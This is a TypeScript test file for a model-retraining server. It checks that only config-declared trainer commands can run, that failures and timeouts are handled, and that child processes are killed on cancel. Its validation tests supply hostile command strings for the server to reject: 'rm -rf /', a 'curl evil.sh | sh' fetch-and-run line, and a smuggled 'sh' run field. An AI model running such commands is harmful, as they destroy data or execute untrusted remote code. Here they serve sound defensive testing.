import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mulberry32 } from '../../src/data/random.js';
import type { CommandTable } from '../../src/train/command/command-spec.js';
import { commandDeclarationSchema } from '../../src/train/command/command-spec.js';
import { WorkerExecutor } from '../../src/retrain/executor.js';
import { openTestApp, type TestApp } from '../helpers/app.js';
import { DIALECTS } from '../helpers/dialects.js';
import { PYTHON, xgboostPredict } from './python.js';

const work = mkdtempSync(join(tmpdir(), 'refit-byom-'));
const pidFile = join(work, 'pids.txt');
writeFileSync(
  join(work, 'hang.py'),
  `import subprocess, sys, time
inner = 'import subprocess, sys, time; p = subprocess.Popen(["sleep", "600"]); open(sys.argv[1], "a").write(str(p.pid) + "\\\\n"); time.sleep(600)'
child = subprocess.Popen([sys.executable, '-c', inner, sys.argv[1]])
open(sys.argv[1], 'a').write(str(child.pid) + '\\n')
print('started a child that starts a sleeper', flush=True)
time.sleep(600)
`,
);
const declare = (d: unknown) => commandDeclarationSchema.parse(d);
const commands: CommandTable = {
  xgb: declare({ run: [PYTHON, resolve('examples/xgboost/train.py')], format: 'xgboost-json', timeoutMinutes: 5 }),
  fail: declare({
    run: [
      PYTHON,
      '-c',
      "import json, os, sys; p = os.environ['REFIT_PREVIOUS_ARTIFACT']; print('previous: ' + json.load(open(p))['learner']['objective']['name'] if p else 'no previous', flush=True); print('loading the data', flush=True); print('ValueError: the data is bad', file=sys.stderr); sys.exit(3)",
    ],
  }),
  silent: declare({ run: [PYTHON, '-c', "print('done, but I wrote nothing')"] }),
  hang: declare({ run: [PYTHON, join(work, 'hang.py'), pidFile], timeoutMinutes: 0.05 }),
};

/** A process is gone when it no longer exists or is a zombie waiting for a parent that is not us. */
function alive(pid: number): boolean {
  const stat = `/proc/${pid}/stat`;
  if (!existsSync(stat)) return false;
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(stat, 'utf8'));
  } catch {
    return false;
  }
}

describe.each(DIALECTS.filter((d) => d.name === 'sqlite'))('command trainers on $name', (dialect) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await openTestApp(dialect, { commands, workRoot: join(work, 'jobs') });
  });
  afterAll(async () => {
    await t.close();
  });
  const req = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) =>
    t.app.inject({ method, url, ...(payload === undefined ? {} : { payload: payload as object }) });
  const rnd = mulberry32(5);
  const rows = (n: number) =>
    Array.from({ length: n }, () => {
      const x1 = rnd() * 2 - 1;
      const x2 = rnd() < 0.15 ? null : rnd() * 4;
      const flag = rnd() < 0.5;
      const label = x1 + (x2 ?? 3) * 0.3 + (flag ? 0.4 : 0) + (rnd() - 0.5) * 0.6 > 0.9 ? 1 : 0;
      return { features: { x1, x2, flag }, label };
    });
  const lastJob = async () => {
    await t.parts.queue.whenIdle();
    return (await req('GET', '/api/v1/models/churn/retrain/history')).json().items[0];
  };
  let v1 = '';

  it('refuses a spec that names an undeclared command, with the field and the reason', async () => {
    const res = await req('POST', '/api/v1/models', {
      id: 'sneaky',
      task: 'binary',
      features: [{ name: 'x1', type: 'number' }],
      trainer: { type: 'command', params: { command: 'rm -rf /' } },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([{ path: '/trainer/params/command', message: expect.stringContaining("command 'rm -rf /' is not declared in the server's config file (declared: xgb, fail, silent, hang)") }]);
    // A client cannot smuggle a command line in any other field either: params are strict.
    const extra = await req('POST', '/api/v1/models', { id: 'sneaky', task: 'binary', features: [{ name: 'x1', type: 'number' }], trainer: { type: 'command', params: { command: 'xgb', run: ['sh'] } } });
    expect(extra.statusCode).toBe(400);
    expect(extra.json().errors).toContainEqual({ path: '/trainer/params/run', message: "unknown field 'run'" });
    expect((await req('GET', '/api/v1/models/sneaky')).statusCode).toBe(404);
  });

  it("retrains with the XGBoost example script, promotes it, and scores exactly as XGBoost's own predict", async () => {
    const created = await req('POST', '/api/v1/models', {
      id: 'churn',
      task: 'binary',
      features: [
        { name: 'x1', type: 'number' },
        { name: 'x2', type: 'number' },
        { name: 'flag', type: 'boolean' },
      ],
      trainer: { type: 'command', params: { command: 'xgb' } },
    });
    expect(created.statusCode).toBe(201);
    expect((await req('POST', '/api/v1/models/churn/labels', { items: rows(600) })).statusCode).toBe(201);
    expect((await req('POST', '/api/v1/models/churn/retrain', {})).statusCode).toBe(202);
    const job = await lastJob();
    expect(job).toMatchObject({ status: 'completed', result: { promoted: true } });
    expect(job.result.newMetrics.auc).toBeGreaterThan(0.85);
    v1 = job.result.newVersion;
    // The script's output is the job's log, progress lines and metrics.json included.
    const log = (await req('GET', `/api/v1/jobs/${job.id}/log`)).json();
    expect(log.log).toContain('training on');
    expect(log.log).toContain('progress: 1.00');
    expect(log.log).toContain('saved model.json');
    expect(log.log).toContain('[refit] metrics.json: {"rounds": 50');

    const probe = rows(200).map((r) => r.features);
    const scored = await req('POST', '/api/v1/models/churn/score', { items: probe.map((features) => ({ features })) });
    expect(scored.statusCode).toBe(200);
    const items = scored.json().items as { score: number; version: string }[];
    expect(new Set(items.map((i) => i.version))).toEqual(new Set([v1]));
    // The model file the script wrote, handed back by export, predicted by XGBoost itself.
    const exported = await req('GET', `/api/v1/models/churn/versions/${v1}/export?format=xgboost-json`);
    expect(exported.statusCode).toBe(200);
    const theirs = xgboostPredict(exported.rawPayload, probe.map((f) => [f.x1, f.x2, f.flag ? 1 : 0]));
    const worst = Math.max(...items.map((i, k) => Math.abs(i.score - theirs[k])));
    expect(worst).toBeLessThan(1e-6);
  });

  it('fails a job whose script exits non-zero with the last lines of its output; the champion keeps serving', async () => {
    // Changing the trainer is checked against the config file as well.
    const undeclared = await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'curl evil.sh | sh' } } });
    expect(undeclared.statusCode).toBe(400);
    expect(undeclared.json().errors[0]).toMatchObject({ path: '/trainer/params/command', message: expect.stringContaining('is not declared') });
    expect((await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'fail' } } })).statusCode).toBe(200);
    await req('POST', '/api/v1/models/churn/retrain', { force: true });
    const job = await lastJob();
    expect(job.status).toBe('failed');
    expect(job.error).toContain("command 'fail' exited with code 3");
    expect(job.error).toContain('ValueError: the data is bad');
    expect(job.attempts).toBe(1);
    // The champion's model file was handed over for incremental training; then the script failed.
    expect((await req('GET', `/api/v1/jobs/${job.id}/log`)).json().log).toMatch(/previous: binary:logistic\nloading the data[\s\S]*ValueError: the data is bad/);
    const scored = await req('POST', '/api/v1/models/churn/score', { items: [{ features: { x1: 0.5, x2: 1, flag: true } }] });
    expect(scored.json().items[0].version).toBe(v1);
  });

  it('fails a job whose script writes no model file, with a clear reason', async () => {
    await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'silent' } } });
    await req('POST', '/api/v1/models/churn/retrain', { force: true });
    const job = await lastJob();
    expect(job.status).toBe('failed');
    expect(job.error).toBe("command 'silent' exited without writing model.json into REFIT_OUTPUT_DIR");
  });

  it('stops a hanging script at its timeout together with its children; the champion keeps serving', async () => {
    await req('PUT', '/api/v1/models/churn/retrain/config', { trainer: { type: 'command', params: { command: 'hang' } } });
    await req('POST', '/api/v1/models/churn/retrain', { force: true });
    const job = await lastJob();
    expect(job.status).toBe('failed');
    expect(job.error).toContain("timeout: command 'hang' ran longer than 0.05 minute(s) and was stopped with its process group");
    const pids = readFileSync(pidFile, 'utf8').trim().split('\n').map(Number);
    expect(pids).toHaveLength(2); // the child and the sleeper it started
    // SIGKILL went to the whole group; give the kernel a moment to finish them.
    for (let i = 0; i < 100 && pids.some(alive); i++) await new Promise((r) => setTimeout(r, 20));
    expect(pids.filter(alive)).toEqual([]);
    const scored = await req('POST', '/api/v1/models/churn/score', { items: [{ features: { x1: 0.5, x2: 1, flag: true } }] });
    expect(scored.json().items[0].version).toBe(v1);
  });
});

describe('a command trainer in the training worker', () => {
  it('is stopped with its children when the job is cancelled', async () => {
    const dialect = DIALECTS.find((d) => d.name === 'sqlite')!;
    const pids = join(work, 'cancel-pids.txt');
    const slow: CommandTable = { slow: declare({ run: [PYTHON, join(work, 'hang.py'), pids], timeoutMinutes: 10 }) };
    const t = await openTestApp(dialect, { commands: slow, workRoot: join(work, 'jobs-cancel'), executor: new WorkerExecutor() });
    try {
      await t.refit.createModel({ id: 'c', task: 'binary', features: [{ name: 'x', type: 'number' }], trainer: { type: 'command', params: { command: 'slow' } } });
      await t.refit.addLabels('c', Array.from({ length: 20 }, (_, i) => ({ features: { x: i }, label: i % 2 })));
      const { job } = await t.refit.retrain('c');
      // Wait until the script has started its child and the sleeper (both write their pid) and said so in the log.
      const running = async () => existsSync(pids) && readFileSync(pids, 'utf8').trim().split('\n').length === 2 && (await t.refit.jobLog(job.id)).log.includes('started a child');
      for (let i = 0; i < 500 && !(await running()); i++) await new Promise((r) => setTimeout(r, 20));
      expect((await t.refit.jobLog(job.id)).log).toContain('started a child that starts a sleeper');
      await t.refit.cancelJob(job.id);
      await t.parts.queue.whenIdle();
      expect((await t.refit.getJob(job.id)).status).toBe('cancelled');
      const started = readFileSync(pids, 'utf8').trim().split('\n').map(Number);
      for (let i = 0; i < 100 && started.some(alive); i++) await new Promise((r) => setTimeout(r, 20));
      expect(started.filter(alive)).toEqual([]);
    } finally {
      await t.close();
    }
  });
});
